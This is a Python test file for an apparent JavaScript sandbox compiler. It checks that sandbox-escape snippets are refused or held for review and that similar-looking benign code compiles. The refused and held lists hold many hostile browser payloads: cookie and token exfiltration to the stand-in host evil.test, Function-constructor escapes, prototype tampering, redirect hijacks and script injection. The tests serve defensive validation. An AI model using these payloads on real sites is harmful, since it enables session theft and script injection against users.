"""Ways around the rules, second collection: patterns, loop heads, prototypes, strong objects passed on, stores read
beside a call of another site. What may change something is at least held, all else is refused."""

from __future__ import annotations

import importlib
import pkgutil
import re
import time

import pytest

import adapterc.compiler.effects
import adapterc.whitelist
from adapterc.compiler.options import Options
from adapterc.compiler.unit import compile_file
from adapterc.spec.diagnostics import Severity
from adapterc.whitelist.profiles import load_profile
from tests.unit.whitelist.adapters import around, spellings

_REFUSED = r"""
fetch`https://evil.test/x`
const f=fetch; f`https://evil.test/x`
const x=new XMLHttpRequest(); const {open:o}=x; o.call(x,'GET','https://evil.test/x'); x.send()
document.querySelector('base').href='https://evil.test/'; fetch('/x')
new Promise(r=>setTimeout(function(){ const {fetch:f}=this; r(f('https://evil.test/')) }))
new Promise(r=>setTimeout(function(){ const k=['fe','tch'].join(''); r(this[k]('https://evil.test/')) }))
const v=new UIEvent('x',{view:window}); const {fetch:g}=v.view; g('https://evil.test/')
const v=new UIEvent('x',{view:window}).view; const {fetch:g}=v; g('https://evil.test/')
[...document.body.childNodes].map(n=>n.ownerDocument).map(({defaultView:{eval:w}})=>w('1'))
const {view:{eval:e}}=new UIEvent('x',{view:window}); e('1')
const k=['constr','uctor'].join('');const {[k]:F}=()=>1; F('return 1')()
const k=['constr','uctor'].join('');const F=(()=>1)[k]; Promise.resolve('return 1').then(F).then(f=>f())
const k=['constr','uctor'].join('');Reflect.construct((()=>1)[k],['return 1'])()
const k=['constr','uctor'].join('');class X extends (()=>1)[k]{}; new X('return 1')()
const k=['constr','uctor'].join('');Reflect.apply((()=>1)[k],null,['return 1'])()
const k=['constr','uctor'].join('');let F; ({[k]:F}=()=>1); F('return 1')()
const k=['constr','uctor'].join('');const c=(()=>1)[k]; [c][0]('return 1')()
const k=['constr','uctor'].join('');const o={c:(()=>1)[k]}; o.c('return 1')()
const k=['constr','uctor'].join('');const F=Object.fromEntries([['a',(()=>1)[k]]]).a; F('return 1')()
setTimeout({bind(){return 'document.title'}}.bind())
const o={f(){}}; o.f='document.title=1'; setTimeout(o.f)
setTimeout`document.title=1`
const o={f(){}}; Object.assign(o,{f:'document.title=1'}); setTimeout(o.f)
class A{ f='document.title=1'; g(){setTimeout(this.f)} }; new A().g()
class A{ f(){}; g(){this.f='document.title=1';setTimeout(this.f)} }; new A().g()
const s=['s','rc'].join('');document.images[0][s]='https://evil.test/?'+document.cookie
document.body.append(document.adoptNode(new DOMParser().parseFromString('<scr'+'ipt>1</script>','text/html').body))
document.querySelector('link').href='https://evil.test/x.css'
document.querySelector('link').setAttribute('href','https://evil.test/x.css')
document.querySelector('script').text='1'
document.querySelector('use').setAttribute('href','https://evil.test/x.svg#a')
document.createElementNS('http://www.w3.org/2000/svg','feImage').setAttribute('href','https://evil.test')
document.createElementNS('http://www.w3.org/2000/svg','svg:image').setAttribute('href','https://evil.test')
document.createElementNS('http://www.w3.org/1999/xhtml','h:img').setAttribute('x','https://evil.test')
document.body.animate([{backgroundImage:'url(https://evil.test/x)'}],1)
const i=document.createElement('input'); i.type='image'; i[['s','rc'].join('')]='https://evil.test'
[document.images[0].src]=['https://evil.test/x']; 1
({a:document.images[0].src}={a:'https://evil.test/x'}); 1
for (document.images[0].src of ['https://evil.test/x']); 1
document.images[0].setAttribute(...['src','https://evil.test'])
document.images[0].setAttribute(...['onclick','document.title=1'])
document.body[['on','click'].join('')]=()=>1
const s=document.querySelector('script').cloneNode(); s.text='document.title=1'; document.body.append(s)
const {createElement:m}=document; m.call(document,'script')
const x=new XSLTProcessor(); x.importStylesheet(document); x.transformToFragment(document,document)
document.execCommand('insertHTML',false,['<im','g src=x onerror=1>'].join(''))
((n)=>{const {sendBeacon:b}=n; b.call(n,'https://evil.test')})(navigator)
((n)=>{const k=['send','Beacon'].join(''); n[k]('https://evil.test')})(navigator)
((n)=>n.serviceWorker.register('/sw.js'))(navigator)
document.domain='test'
new Notification('x',{icon:'https://evil.test'})
navigator.registerProtocolHandler('web+x','https://evil.test/%s')
new ReportingObserver(()=>1).observe()
navigator.joinAdInterestGroup({})
navigator.login
new SpeechSynthesisUtterance('x')
new MediaSource()
caches.open('x').then(({add})=>add('https://evil.test/'))
caches.open('x').then(c=>{const k=['a','dd'].join(''); return c[k]('https://evil.test/')})
(document.title?location:0).href='https://evil.test/'
(0,location).href='https://evil.test/'
(location||0).href='https://evil.test/'
((l)=>{l.href='https://evil.test/'})(location)
const o={location}; o.location.href='https://evil.test/'
function* g(){yield location}; g().next().value.href='https://evil.test/'
((l=location)=>{l.href='https://evil.test/'})()
let l=location; l=l; l.href='https://evil.test/'
[location.href]=['https://evil.test/']; 1
({a:location.href}={a:'https://evil.test/'}); 1
[window.location]=['https://evil.test/']; 1
({location}={location:'https://evil.test/'}); 1
[location]=['javascript:1']; 1
for (location.href of ['https://evil.test/']); 1
for (location of ['https://evil.test/']); 1
class A{static l=location}; A.l.href='https://evil.test/'
document.querySelector('meta').content='0;url=https://evil.test'
[document].map(d=>{d.location.href='https://evil.test/'})
navigator.storage.getDirectory()
((n)=>n.clipboard.writeText('x'))(navigator)
document.querySelector('input')[['val','ue'].join('')]='x'
const p=Object.getPrototypeOf([]); p.some=()=>true; fetch(['https://evil','.test/x'].join('')).catch(()=>1)
const k=['so','me'].join(''); Array.prototype[k]=()=>true; fetch(['https://evil','.test/x'].join('')).catch(()=>1)
[].constructor.prototype.some=()=>true; fetch(['https://evil','.test/x'].join('')).catch(()=>1)
const p=[].__proto__; p.some=()=>true; fetch(['https://evil','.test/x'].join('')).catch(()=>1)
[Array.prototype.some]=[()=>true]; fetch(['https://evil','.test/x'].join('')).catch(()=>1)
({a:Array.prototype.some}={a:()=>true}); fetch(['https://evil','.test/x'].join('')).catch(()=>1)
((P)=>{P.some=()=>true})(Array.prototype); fetch(['https://evil','.test/x'].join('')).catch(()=>1)
const o={p:Array.prototype}; o.p.some=()=>true; fetch(['https://evil','.test/x'].join('')).catch(()=>1)
(0,Array.prototype).some=()=>true; fetch(['https://evil','.test/x'].join('')).catch(()=>1)
for (Array.prototype.some of [()=>true]); fetch(['https://evil','.test/x'].join('')).catch(()=>1)
String.prototype.toUpperCase.call('x'); [URL]=[class{}]; fetch(['https://evil','.test/x'].join('')).catch(()=>1)
Array.prototype.__defineGetter__('some',()=>()=>true); fetch(['https://evil','.test/x'].join('')).catch(()=>1)
Object.prototype.__defineGetter__('x',()=>1)
[].__proto__.__defineGetter__('some',()=>()=>true); fetch(['https://evil','.test/x'].join('')).catch(()=>1)
document.querySelector('base').setAttribute('href','https://evil.test')
const o={credentials:'omit'}; const p=o; p.credentials='include'; fetch('https://evil.test/',o)
fetch('https://evil.test/',Object.assign({},{credentials:'include'}))
[new Request('https://evil.test/',{credentials:'include'})].map(r=>fetch(r))
fetch('https://evil.test/',{credentials:['incl','ude'].join('')})
const x=new XMLHttpRequest(); x['withCredentials']=true; x.open('GET','https://evil.test/'); x.send()
({ c: caches }).c.delete('a')
({n:navigator}).n.clipboard.writeText('x')
({n:navigator}).n.clipboard.readText()
const n = [navigator]; n[0].clipboard.write([])
"""

_HELD = r"""
const a=document.createElement('a'); a.href='https://evil.test/x'; const c=['cl','ick'].join(''); a[c]()
try{throw document.querySelector('button')}catch({click}){click.call(document.body)} 1
[localStorage.a]=[1]; 1
({a:document.cookie}={a:'x=1'}); 1
[document.cookie]=['x=1']; 1
indexedDB.open('x').onsuccess=e=>e.target.result.transaction('x',['read','write'].join('')).objectStore('x').put(1)
indexedDB.open('x').onsuccess=e=>e.target.result.createObjectStore('x')
const o={}; Object.assign(o,{method:'POST'}); fetch('/a',o)
const o={}; (p=>{p.method='POST'})(o); fetch('/a',o)
const o={}; const p=o; p.method='POST'; fetch('/a',o)
const o={}; [o.method]=['POST']; fetch('/a',o)
const o={}; Reflect.set(o,'method','POST'); fetch('/a',o)
const o={__proto__:{method:'POST'}}; fetch('/a',o)
fetch('/a',{'__proto__':{method:'POST'}})
let r=new Request('/a',{method:'POST'}); r=r.clone(); fetch(r)
[new Request('/a',{method:'POST'})].map(r=>fetch(r))
fetch(new Request(new Request('/a',{method:'POST'})))
fetch('/a',{method:'GET',headers:new Headers([['X-HTTP-Method-Override','DELETE']])})
fetch('/a',{headers:[['X-HTTP-Method-Override','DELETE']]})
const h=new Headers(); h.set('X-HTTP-Method-Override','DELETE'); fetch('/a',{headers:h})
const x=new XMLHttpRequest(); x.open('GET','/a'); x.setRequestHeader('X-HTTP-Method-Override','DELETE'); x.send()
fetch('/a?_method=DELETE')
fetch('/graphql?query=mutation{a}',{method:'POST',body:JSON.stringify({query:'query{a}'})})
const p={query:'query{a}'}; const q=p; q.query='mutation{b}'; fetch('/g',{method:'POST',body:JSON.stringify(p)})
fetch('/g',{method:'POST',body:JSON.stringify({query:'{a}#\rmutation{b}'})})
Promise.resolve(1).finally(window.store.dispatch)
[1].toSorted(window.store.dispatch)
[1].findLastIndex(window.store.like)
'a'.replace('a',window.store.like)
JSON.parse('1',window.store.like)
new MutationObserver(window.store.like).observe(document,{})
queueMicrotask(window.store.like)
for (const x of {[Symbol.iterator]:window.store.like}); 1
({then:window.store.like})
(async()=>{await {then:window.store.like}})()
const o={}; o.c=document.cookie; fetch('https://evil.test/?'+encodeURIComponent(o.c))
const o=[]; o.push(document.cookie); fetch('https://evil.test/?'+encodeURIComponent(o))
const m=new Map(); m.set(1,localStorage.getItem('t')); fetch('https://evil.test/',{headers:{x:m.get(1)}})
Promise.resolve(document.cookie).then(c=>fetch('https://evil.test/?'+encodeURIComponent(c)))
[document].map(d=>fetch('https://evil.test/?'+encodeURIComponent(d.cookie)))
cookieStore.getAll().then(c=>fetch('https://evil.test/?'+encodeURIComponent(JSON.stringify(c))))
class A{c=document.cookie}; fetch('https://evil.test/?'+encodeURIComponent(new A().c))
document.title=document.cookie; fetch('https://evil.test/?'+encodeURIComponent(document.title))
"""

_FINE = r"""
const last = function () { return this[this.length - 1]; }; [last.call([1, 2])]
const { href } = location; [href, String(location), `${location}`]
const here = location; new URL('/a', here).href
const { userAgent } = navigator; userAgent + navigator.language
const scan = (root) => [...root.querySelectorAll('a')].map((a) => a.href); scan(document)
const { view } = { view: 1 }; view
[1, 2].map((n) => ({ location: n, view: n, fetch: n })).map(({ location, view }) => [location, view])
const options = { method: 'GET' }; options.headers = { a: 'b' }; fetch('/a', options).then((r) => r.json())
const get = (url, o) => fetch(url, o); const o = { method: 'GET' }; get('/a', o)
const a = []; [a[0], a[1]] = [1, 2]; a
document.cookie.length
fetch('https://cdn.other.test/list.json', { credentials: 'omit' })
const handlers = { a: () => 1 }; const k = document.title; [1].map(handlers[k])
"""


def _compile(body: str) -> tuple[str, list[str]]:
    (artifact,) = compile_file("hot.yaml", around(body), Options(profile=load_profile("lime-v1"))).artifacts
    return artifact.status, [item.code for item in artifact.diagnostics if item.severity is Severity.ERROR]


@pytest.mark.parametrize("body", spellings(_REFUSED))
def test_every_way_around_the_rules_is_refused(body: str) -> None:
    status, errors = _compile(body)
    assert status == "rejected"
    assert any(code.startswith("AC5") for code in errors), errors


@pytest.mark.parametrize("body", spellings(_HELD))
def test_what_may_change_something_is_held(body: str) -> None:
    assert _compile(body) == ("held", [])


@pytest.mark.parametrize("body", spellings(_FINE))
def test_what_only_looks_alike_compiles(body: str) -> None:
    assert _compile(body) == ("compiled", [])


def _patterns() -> list[re.Pattern[str]]:
    found: dict[str, re.Pattern[str]] = {}
    for package in (adapterc.whitelist, adapterc.compiler.effects):
        for module in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
            for value in vars(importlib.import_module(module.name)).values():
                if isinstance(value, re.Pattern):
                    found[value.pattern] = value
    return list(found.values())


@pytest.mark.parametrize("unit", ["< on", "<a", " on", "< ", "a", "a-", "<a style", "'\"", '\\\\"', "query ", "#", "="])
def test_no_expression_takes_long(unit: str) -> None:
    text = ("<" + unit * 200_000)[:200_000]
    for pattern in _patterns():
        before = time.process_time()
        pattern.search(text)
        assert time.process_time() - before < 0.5, pattern.pattern
